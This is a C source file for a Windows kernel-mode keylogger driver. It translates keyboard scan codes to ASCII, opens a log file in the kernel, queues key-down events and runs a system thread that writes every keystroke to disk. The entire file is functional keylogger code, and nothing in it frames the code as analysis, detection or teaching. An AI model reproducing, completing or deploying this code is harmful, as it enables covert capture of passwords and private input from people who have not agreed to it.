#include "keylog.h"

// scan code set 1 -> ascii, good enough for a US layout
static const char g_ScanMap[0x3A] = {
    0,  27, '1','2','3','4','5','6','7','8','9','0','-','=', 8,   9,
   'q','w','e','r','t','y','u','i','o','p','[',']', 13,  0,  'a','s',
   'd','f','g','h','j','k','l',';','\'','`', 0, '\\','z','x','c','v',
   'b','n','m',',','.','/', 0,  '*', 0,  ' '
};

NTSTATUS KlOpenLog(VOID)
{
    UNICODE_STRING path;
    OBJECT_ATTRIBUTES oa;
    IO_STATUS_BLOCK iosb;

    RtlInitUnicodeString(&path, KL_LOGFILE);
    InitializeObjectAttributes(&oa, &path, OBJ_CASE_INSENSITIVE | OBJ_KERNEL_HANDLE, NULL, NULL);

    return ZwCreateFile(&g_Kl.LogFile, FILE_APPEND_DATA | SYNCHRONIZE, &oa, &iosb, NULL,
                        FILE_ATTRIBUTE_NORMAL, FILE_SHARE_READ, FILE_OPEN_IF,
                        FILE_SYNCHRONOUS_IO_NONALERT | FILE_NON_DIRECTORY_FILE, NULL, 0);
}

VOID KlCloseLog(VOID)
{
    if (g_Kl.LogFile) {
        ZwClose(g_Kl.LogFile);
        g_Kl.LogFile = NULL;
    }
}

VOID KlQueueKey(USHORT MakeCode, USHORT Flags)
{
    PKL_KEY key = (PKL_KEY)ExAllocatePoolWithTag(NonPagedPoolNx, sizeof(KL_KEY), KL_TAG);
    if (!key)
        return;   // drop it
    key->MakeCode = MakeCode;
    key->Flags = Flags;
    ExInterlockedInsertTailList(&g_Kl.KeyList, &key->Link, &g_Kl.KeyLock);
    KeSetEvent(&g_Kl.WorkEvent, IO_NO_INCREMENT, FALSE);
}

static VOID WriteKey(PKL_KEY Key)
{
    IO_STATUS_BLOCK iosb;
    char c;

    if (Key->Flags & KEY_BREAK)
        return;                       // only log key down
    if (Key->MakeCode >= sizeof(g_ScanMap) || g_ScanMap[Key->MakeCode] == 0)
        return;

    c = g_ScanMap[Key->MakeCode];
    if (c == 13) c = '\n';
    ZwWriteFile(g_Kl.LogFile, NULL, NULL, NULL, &iosb, &c, 1, NULL, NULL);
}

VOID KlLoggerThread(PVOID Context)
{
    PLIST_ENTRY entry;
    UNREFERENCED_PARAMETER(Context);

    KL_DBG("logger thread started");

    for (;;) {
        KeWaitForSingleObject(&g_Kl.WorkEvent, Executive, KernelMode, FALSE, NULL);

        while ((entry = ExInterlockedRemoveHeadList(&g_Kl.KeyList, &g_Kl.KeyLock)) != NULL) {
            PKL_KEY key = CONTAINING_RECORD(entry, KL_KEY, Link);
            WriteKey(key);
            ExFreePoolWithTag(key, KL_TAG);
        }

        if (g_Kl.Stop)
            break;
    }

    KlCloseLog();
    KL_DBG("logger thread exiting");
    PsTerminateSystemThread(STATUS_SUCCESS);
}
